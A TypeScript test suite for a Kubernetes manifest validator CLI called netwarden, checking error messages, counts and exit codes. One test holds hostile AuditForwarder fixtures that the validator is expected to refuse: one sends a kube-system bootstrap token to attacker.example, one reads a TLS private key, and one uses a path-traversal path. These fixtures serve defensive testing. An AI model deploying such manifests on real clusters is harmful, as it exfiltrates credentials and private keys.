// `netwarden validate -f`: what a user sees for files, directories, multi-document YAML, other
// kinds, syntax errors, and the exit code.

import { expect } from 'chai';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { Writable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { runValidate } from '../../src/cli/validate.js';

const repo = join(dirname(fileURLToPath(import.meta.url)), '..', '..');

/** Run the command and capture its output lines. */
async function run(paths: string[]): Promise<{ code: number; lines: string[] }> {
  let text = '';
  const out = new Writable({
    write(chunk: Buffer | string, _enc, done) {
      text += chunk.toString();
      done();
    },
  });
  const code = await runValidate(paths, out);
  return { code, lines: text.split('\n').filter((l) => l !== '') };
}

const CONFIGMAP = 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: settings\ndata:\n  a: "1"\n';
const BACKWARDS_CAPTURE = [
  'apiVersion: netwarden.io/v1alpha1',
  'kind: PacketCapture',
  'metadata: {name: backwards, namespace: default}',
  'spec:',
  '  startTime: "2025-06-01T12:30:00Z"',
  '  endTime: "2025-06-01T12:00:00Z"',
  '',
].join('\n');
const GOOD_DROPTAIL = 'apiVersion: netwarden.io/v1alpha1\nkind: DropTail\nmetadata: {name: all}\n';

describe('netwarden validate', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'netwarden-validate-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('accepts the examples and says so in one summary line', async () => {
    const { code, lines } = await run([join(repo, 'examples')]);
    expect(lines).to.deep.equal(['7 files, 6 Netwarden objects checked (1 other object passed over): valid']);
    expect(code).to.equal(0);
  });

  it('prints FILE:doc N: KIND/NAME: FIELD: MESSAGE for each error and exits 1', async () => {
    const file = join(repo, 'test/fixtures/invalid/packetcapture-endtime-before-starttime.yaml');
    const { code, lines } = await run([file]);
    expect(lines).to.deep.equal([
      `${file}:doc 1: PacketCapture/backwards: spec.endTime: endTime must be after startTime`,
      '1 file, 1 Netwarden object checked (0 other objects passed over): 1 error',
    ]);
    expect(code).to.equal(1);
  });

  it('counts documents in multi-document YAML and passes other kinds over', async () => {
    const file = join(dir, 'app.yaml');
    writeFileSync(file, `${CONFIGMAP}---\n${GOOD_DROPTAIL}---\n${BACKWARDS_CAPTURE}---\n`);
    const { code, lines } = await run([file]);
    expect(lines).to.deep.equal([
      `${file}:doc 3: PacketCapture/backwards: spec.endTime: endTime must be after startTime`,
      '1 file, 2 Netwarden objects checked (1 other object passed over): 1 error',
    ]);
    expect(code).to.equal(1);
  });

  it('walks directories recursively for .yaml, .yml and .json, in name order', async () => {
    mkdirSync(join(dir, 'nested', 'deeper'), { recursive: true });
    writeFileSync(join(dir, 'a.yml'), GOOD_DROPTAIL);
    writeFileSync(join(dir, 'nested', 'b.json'), JSON.stringify({ apiVersion: 'netwarden.io/v1alpha1', kind: 'AuditForwarder', metadata: { name: 'nosink' }, spec: {} }));
    writeFileSync(join(dir, 'nested', 'deeper', 'c.yaml'), BACKWARDS_CAPTURE);
    writeFileSync(join(dir, 'nested', 'notes.txt'), 'kind: not yaml: at all: [');
    const { code, lines } = await run([dir]);
    expect(lines).to.deep.equal([
      `${join(dir, 'nested', 'b.json')}:doc 1: AuditForwarder/nosink: spec.sink: Required value`,
      `${join(dir, 'nested', 'deeper', 'c.yaml')}:doc 1: PacketCapture/backwards: spec.endTime: endTime must be after startTime`,
      '3 files, 3 Netwarden objects checked (0 other objects passed over): 2 errors',
    ]);
    expect(code).to.equal(1);
  });

  it("refuses what the installation's admission policy refuses: other namespaces' Secrets, http:// sinks, paths outside the audit log directory", async () => {
    const file = join(dir, 'attacks.yaml');
    const forwarder = (name: string, spec: string) => `apiVersion: netwarden.io/v1alpha1\nkind: AuditForwarder\nmetadata: {name: ${name}}\nspec: ${spec}\n`;
    writeFileSync(file, [
      forwarder('steal-secret', '{sink: {webhook: {url: "https://attacker.example/in", bearerTokenSecretRef: {namespace: kube-system, name: bootstrap-token-abc, key: token-secret}}}}'),
      forwarder('clear-text', '{sink: {webhook: {url: "http://collector.example/in"}}}'),
      forwarder('read-key', '{source: {path: /etc/netwarden/tls/tls.key}, sink: {file: {directory: /var/lib/netwarden/out}}}'),
      forwarder('climb', '{source: {path: /var/log/kubernetes/audit/../../pods/x.log}, sink: {file: {directory: /var/lib/netwarden/out}}}'),
      forwarder('fine', '{source: {path: /var/log/kubernetes/audit/audit.log}, sink: {webhook: {url: "http://falco.falco:9765/k8s-audit", allowInsecure: true, bearerTokenSecretRef: {name: hook, key: token}}}}'),
    ].join('---\n'));
    const { code, lines } = await run([file]);
    expect(lines).to.deep.equal([
      `${file}:doc 1: AuditForwarder/steal-secret: spec.sink.webhook.bearerTokenSecretRef.namespace: Forbidden: Secrets are read only from Netwarden's own namespace netwarden-system; leave namespace out or set it to netwarden-system`,
      `${file}:doc 2: AuditForwarder/clear-text: spec.sink.webhook.url: Forbidden: http:// sends the audit log and any bearer token or headers in clear text; use https://, or set spec.sink.webhook.allowInsecure: true for a receiver on a trusted network`,
      `${file}:doc 3: AuditForwarder/read-key: spec.source.path: Forbidden: the agents read audit logs only under /var/log/kubernetes/audit (their --audit-log-dir), and the path may have no . or .. segments`,
      `${file}:doc 4: AuditForwarder/climb: spec.source.path: Forbidden: the agents read audit logs only under /var/log/kubernetes/audit (their --audit-log-dir), and the path may have no . or .. segments`,
      '1 file, 5 Netwarden objects checked (0 other objects passed over): 4 errors',
    ]);
    expect(code).to.equal(1);
  });

  it('checks the capture quota ConfigMap as the controller reads it, and accepts the one config/ ships', async () => {
    const shipped = join(repo, 'config/controller/capture-quotas.yaml');
    expect((await run([shipped])).code).to.equal(0);
    const file = join(dir, 'quotas.yaml');
    const quotas = (data: string) => `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: netwarden-capture-quotas, namespace: netwarden-system}\ndata:\n${data}`;
    writeFileSync(file, [quotas('  default: |\n    maxConcurrentCaptures: -1\n'), quotas('  namespaces: |\n    storefront: {maxBytes: lots}\n'), quotas('  defaults: |\n    maxBytes: 1Gi\n')].join('---\n'));
    const { code, lines } = await run([file]);
    const where = 'ConfigMap netwarden-system/netwarden-capture-quotas is invalid';
    const fallback = '(the controller would use the built-in quotas instead)';
    expect(lines).to.have.length(4);
    expect(lines[0]).to.equal(`${file}:doc 1: ConfigMap/netwarden-capture-quotas: ${where}: default.maxConcurrentCaptures: -1 is not a whole number >= 0 ${fallback}`);
    expect(lines[1]).to.match(new RegExp(`^${file.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}:doc 2: ConfigMap/netwarden-capture-quotas: ${where}: .*lots`));
    expect(lines[2]).to.equal(`${file}:doc 3: ConfigMap/netwarden-capture-quotas: ${where}: unknown key(s) defaults: only default and namespaces ${fallback}`);
    expect(lines[3]).to.equal('1 file, 3 Netwarden objects checked (0 other objects passed over): 3 errors');
    expect(code).to.equal(1);
  });

  it('checks the items of a List, as kubectl get -o yaml writes them', async () => {
    const file = join(dir, 'list.yaml');
    writeFileSync(file, `apiVersion: v1\nkind: List\nitems:\n- ${GOOD_DROPTAIL.trim().split('\n').join('\n  ')}\n- apiVersion: netwarden.io/v1alpha1\n  kind: DropTail\n  metadata: {name: typo}\n  spec: {recentDrops: 5}\n`);
    const { code, lines } = await run([file]);
    expect(lines).to.deep.equal([`${file}:doc 1: DropTail/typo: spec.recentDrops: unknown field`, '1 file, 2 Netwarden objects checked (0 other objects passed over): 1 error']);
    expect(code).to.equal(1);
  });

  it('reports YAML syntax errors with file and document, and goes on with the rest', async () => {
    const file = join(dir, 'broken.yaml');
    writeFileSync(file, `${GOOD_DROPTAIL}---\nspec:\n  filters: [\n---\n${BACKWARDS_CAPTURE}`);
    const { code, lines } = await run([file]);
    expect(lines[0]).to.match(new RegExp(`^${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}:doc 2: YAML: .* at line 7, column 1$`));
    expect(lines.slice(1)).to.deep.equal([
      `${file}:doc 3: PacketCapture/backwards: spec.endTime: endTime must be after startTime`,
      '1 file, 2 Netwarden objects checked (0 other objects passed over): 2 errors',
    ]);
    expect(code).to.equal(1);
  });

  it('fails on a path that does not exist, or a directory without manifests', async () => {
    const missing = join(dir, 'nope.yaml');
    mkdirSync(join(dir, 'empty'));
    const { code, lines } = await run([missing, join(dir, 'empty')]);
    expect(lines).to.deep.equal([
      `${missing}: no such file or directory`,
      `${join(dir, 'empty')}: no .yaml, .yml or .json files`,
      '0 files, 0 Netwarden objects checked (0 other objects passed over): 2 errors',
    ]);
    expect(code).to.equal(1);
  });

  it('names objects without kind or name, and rejects documents that are not objects', async () => {
    const file = join(dir, 'odd.yaml');
    writeFileSync(file, 'apiVersion: netwarden.io/v1alpha1\nmetadata: {}\n---\n- just\n- a list\n---\n');
    const { code, lines } = await run([file]);
    expect(lines).to.deep.equal([
      `${file}:doc 1: <no kind>/<no name>: kind: Unsupported value: null: supported values: "DropTail", "PacketCapture", "AuditForwarder"`,
      `${file}:doc 2: not a Kubernetes object (a list)`,
      '1 file, 1 Netwarden object checked (0 other objects passed over): 2 errors',
    ]);
    expect(code).to.equal(1);
  });

  it('exits 2 when given nothing to validate', async () => {
    const { code, lines } = await run([]);
    expect(lines).to.deep.equal(['netwarden validate: give at least one -f FILE_OR_DIR']);
    expect(code).to.equal(2);
  });
});
